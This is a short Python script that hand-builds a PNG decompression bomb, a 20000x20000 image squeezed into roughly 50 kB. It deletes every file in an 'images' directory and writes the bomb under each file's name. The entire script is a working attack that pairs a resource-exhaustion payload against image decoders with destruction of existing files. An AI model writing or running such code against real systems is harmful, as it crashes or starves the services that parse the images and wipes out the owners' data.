# tries: a picture of 400 megapixels in a file of 50 kB
import struct, zlib
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
packed = zlib.compressobj(9)
row = b"\0" * (1 + 20000 // 8)
body = b"".join(packed.compress(row) for _ in range(20000)) + packed.flush()
for old in (run / "images").iterdir():
    old.unlink()
    old.with_suffix(".png").write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 20000, 20000, 1, 0, 0, 0, 0)) + chunk(b"IDAT", body) + chunk(b"IEND", b""))
